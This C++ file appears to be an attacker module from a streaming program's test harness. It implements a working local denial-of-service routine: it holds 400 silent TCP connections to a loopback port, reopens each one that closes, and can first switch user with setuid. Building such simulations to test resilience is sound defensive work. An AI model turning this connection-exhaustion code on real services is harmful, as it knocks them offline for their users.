// What another user of the machine does to the port where a viewer's players get the stream: connections that
// say nothing, all held, and another for each that is closed. Says "connects N" now and then.

#include "attack.hpp"
#include <boost/asio/ip/tcp.hpp>
#include <unistd.h>

#include <array>
#include <cstdlib>
#include <stdexcept>

namespace pixelpass::attacker {
namespace {

namespace asio = boost::asio;
using asio::ip::tcp;

constexpr int kAtOnce = 400;
constexpr int kConnectsBetweenLines = 100;
constexpr Duration kBeforeAnother = 20ms;

class Silent : public std::enable_shared_from_this<Silent> {
 public:
  Silent(asio::io_context& io, std::uint16_t port) : socket_(io), timer_(io), port_(port) {}

  void dial() {
    socket_.async_connect({asio::ip::address_v4::loopback(), port_}, [self = shared_from_this()](auto error) {
      if (error) return self->dial_again();
      if (++connects_ % kConnectsBetweenLines == 0) say("connects " + std::to_string(connects_));
      self->await_end();
    });
  }

 private:
  void await_end() {
    socket_.async_read_some(asio::buffer(input_), [self = shared_from_this()](auto error, std::size_t) {
      error ? self->dial_again() : self->await_end();
    });
  }
  void dial_again() {
    socket_ = tcp::socket(socket_.get_executor());
    timer_.expires_after(kBeforeAnother);
    timer_.async_wait([self = shared_from_this()](auto) { self->dial(); });
  }

  static inline int connects_ = 0;
  tcp::socket socket_;
  asio::steady_timer timer_;
  std::uint16_t port_;
  std::array<char, 512> input_{};
};

}  // namespace

void start_local_attack(asio::io_context& io, const std::string& port, const std::string& user) {
  if (!user.empty() && ::setuid(static_cast<uid_t>(std::stoul(user))) != 0)
    throw std::runtime_error("cannot become user " + user);
  for (int i = 0; i < kAtOnce; ++i)
    std::make_shared<Silent>(io, static_cast<std::uint16_t>(std::stoul(port)))->dial();
}

}  // namespace pixelpass::attacker
